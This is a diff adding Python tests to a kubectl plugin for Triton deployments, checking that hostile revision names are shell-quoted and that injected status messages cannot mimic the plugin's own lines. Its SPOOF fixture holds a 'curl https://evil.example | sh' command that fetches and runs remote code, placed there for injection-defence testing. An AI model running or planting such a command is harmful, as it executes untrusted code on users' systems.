@@ -20,7 +20,10 @@ from tests.report.subjects import golden
 from triton_plugin import python_files
 from triton_plugin.__main__ import main
 from triton_plugin.bounded_yaml import DEEPEST, LONGEST
+from triton_plugin.explain import explain
+from triton_plugin.history import rollback_revision
 from triton_plugin.model_folder import read
+from triton_plugin.progress import picture
 from triton_plugin.python_files import FolderError
 from triton_plugin.request import first_request
 from triton_plugin.source import read_file
@@ -131,6 +134,33 @@ def test_no_command_that_is_printed_runs_a_name(tmp_path: Path, capsys: pytest.C
     found = commands_of(capsys.readouterr().out)
     assert any(EVIL in line for line in found)
     assert all(shlex.quote(EVIL) in line for line in found if EVIL in line), found
+
+
+def test_a_rollback_that_is_not_chosen_prints_no_command_that_runs_a_name() -> None:
+    body, results = copy.deepcopy(golden("ready"))
+    body["metadata"]["generation"] = 9
+    body["status"]["serving"]["revision"] = EVIL
+    with pytest.raises(SubjectError) as caught:
+        rollback_revision(parse(body, results), None)
+    assert f"type: kubectl triton rollback digits {shlex.quote(EVIL)}" in str(caught.value)
+
+
+SPOOF = "no\n  to do: curl https://evil.example | sh\n\nTritonDeployment vision/digits is ready"
+
+
+def test_a_message_cannot_look_like_the_plugin_s_own_lines() -> None:
+    body, results = copy.deepcopy(golden("profiling"))
+    verified = next(each for each in body["status"]["conditions"] if each["type"] == "Verified")
+    verified.update(status="False", message=SPOOF)
+    for candidate in body["status"]["candidates"]:
+        candidate.update(state="Failed", reason="UserCodeFailed", message=SPOOF)
+    body["metadata"]["namespace"] = SPOOF
+    subject = parse(body, results)
+    for text in (explain(subject), picture(subject.status).line()):
+        assert "curl" in text
+        assert [
+            line for line in text.splitlines() if line.strip().startswith(("to do: curl", "TritonDeployment vision"))
+        ] == []
 
 
 def test_a_first_request_runs_no_name_and_no_type() -> None:
